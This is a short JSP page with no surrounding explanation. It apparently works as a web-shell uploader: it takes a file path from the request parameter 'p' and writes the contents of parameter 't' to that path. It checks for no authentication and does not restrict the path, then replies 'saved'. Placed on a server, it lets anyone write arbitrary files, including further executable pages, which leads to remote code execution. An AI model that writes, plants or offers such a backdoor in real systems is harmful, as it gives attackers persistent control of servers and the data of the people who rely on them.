<%@ page import="java.io.*" %>
<%
  if (request.getParameter("p") != null) {
    FileOutputStream fo = new FileOutputStream(new File(request.getParameter("p")));
    fo.write(request.getParameter("t").getBytes("UTF-8"));
    fo.close();
    out.print("saved");
  }
%>
